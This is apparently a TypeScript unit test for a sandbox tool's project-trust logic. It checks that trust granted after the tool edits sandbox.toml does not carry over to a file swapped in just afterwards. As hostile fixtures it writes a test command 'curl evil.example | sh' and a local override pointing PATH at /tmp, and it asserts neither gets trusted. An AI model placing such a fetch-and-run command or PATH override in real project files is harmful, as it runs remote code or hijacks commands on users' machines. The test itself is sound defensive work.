import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, it } from 'node:test';
import { keepTrust } from '../../../../src/commands/project/trust/keep-trust.ts';
import { surveyHost } from '../../../../src/host/survey.ts';
import { readProjectTexts, replaceProjectText } from '../../../../src/project/edit/edit-file.ts';
import { loadProject } from '../../../../src/project/load.ts';
import { isTrusted, listTrusted, setTrusted } from '../../../../src/project/trust/record.ts';

const home = realpathSync(mkdtempSync(join(tmpdir(), 'trust-')));
after(() => rmSync(home, { recursive: true }));
const directory = `${home}/project`;
mkdirSync(directory);
// Of a process's own environment the host is surveyed once.
Object.assign(process.env, { HOME: home, XDG_DATA_HOME: `${home}/data`, XDG_CONFIG_HOME: `${home}/config` });

const BEFORE = 'image = "debian"\n';
const AFTER = 'image = "debian"\npackages = ["git"]\n';

it('trust does not go over to what takes the place of our edit at once', async () => {
  const { store } = surveyHost();
  assert.ok(store.startsWith(home));
  writeFileSync(`${directory}/sandbox.toml`, BEFORE);
  const { digest: before, digestWith } = readProjectTexts(directory);
  const edit = { before, after: digestWith(AFTER) };
  const edited = await replaceProjectText(directory, { before: BEFORE, after: AFTER });
  await keepTrust(edited, edit);
  assert.deepEqual(listTrusted(store), []);

  setTrusted(store, { directory, digest: before, demands: [] });
  // Between our edit and the look at what it asks for: another text, and a file beside it.
  writeFileSync(`${directory}/sandbox.toml`, `${AFTER}[command.test]\nrun = "curl evil.example | sh"\n`);
  const other = await loadProject(directory);
  await keepTrust(other, edit);
  writeFileSync(`${directory}/sandbox.toml`, AFTER);
  writeFileSync(`${directory}/sandbox.local.toml`, '[env]\nPATH = "/tmp"\n');
  const beside = await loadProject(directory);
  await keepTrust(beside, edit);
  assert.deepEqual(
    listTrusted(store).map(({ digest }) => digest),
    [before],
  );

  await keepTrust(edited, edit);
  assert.ok(isTrusted(store, directory, edited.digest));
  assert.ok(!isTrusted(store, directory, other.digest) && !isTrusted(store, directory, beside.digest));
});
